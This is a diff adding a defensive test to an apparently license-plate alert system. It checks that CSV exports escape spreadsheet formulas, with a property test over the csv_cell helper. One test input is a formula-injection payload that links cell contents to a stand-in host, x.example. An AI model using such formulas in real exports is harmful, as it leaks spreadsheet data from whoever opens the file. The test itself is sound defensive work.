@@ -151,3 +151,31 @@ def test_hotlist_text_reaches_speech_only_as_letters_digits_and_spaces():
         assert out == out.strip() and "  " not in out
 
     only_plain_words()
+
+
+def test_alerts_as_csv_never_hand_a_spreadsheet_a_formula(tmp_path: Path):
+    import csv
+    import io
+
+    from edge_agent.export import csv_cell
+
+    data_dir = tmp_path / "data"
+    with Database.in_data_dir(data_dir) as db:
+        alerter = Alerter(AlertConfig(speak=False), data_dir, db)
+        read = _read("7ABC123", [Hit("7ABC123", "CA", "STOLEN_VEHICLE", "exact")])
+        alert = alerter.on_read(read, db.insert_read(read), now=0.0)
+    note = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    assert run_cli("--data-dir", data_dir, "alerts", "ack", alert.id, "--disposition", "misread", "--user", "ofc1",
+                   "--note", note).code == 0
+    listed = run_cli("--data-dir", data_dir, "alerts", "list", "--csv", "--user", "clerk")
+    assert listed.code == 0
+    (row,) = list(csv.DictReader(io.StringIO(listed.out)))
+    assert row["note"] == "'" + note and row["lic"] == "7ABC123" and row["disposition"] == "misread"
+    assert row["message"].startswith("Stolen vehicle.")
+
+    @given(st.text())
+    def never_a_formula(text):
+        cell = csv_cell(text)
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) and cell in (text, "'" + text)
+
+    never_a_formula()
